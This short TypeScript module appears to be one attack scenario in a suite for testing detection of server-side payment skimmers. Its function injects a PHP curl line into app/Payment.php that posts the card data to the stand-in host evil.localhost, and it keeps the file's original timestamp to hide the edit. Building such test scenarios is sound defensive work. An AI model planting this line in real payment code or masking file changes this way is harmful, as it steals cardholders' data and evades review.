import { serverSide } from '../behaviour.ts';

export default serverSide({
  id: 'core-file-http-out',
  why: "A core file posts the card to another host from the server (10 of 29 stealers), with the file's time put back so that a list by date shows nothing (6 of 29).",
  covers: ['server: modified core file', 'server: HTTP out', 'server: touch'],
  strike: ({ read, write }) =>
    write(
      'app/Payment.php',
      read('app/Payment.php').replace(
        'return true;',
        "$c = curl_init('http://evil.localhost/c'); curl_setopt($c, CURLOPT_POSTFIELDS, $card); curl_exec($c);\n    return true;",
      ),
      { keepTime: true },
    ),
});
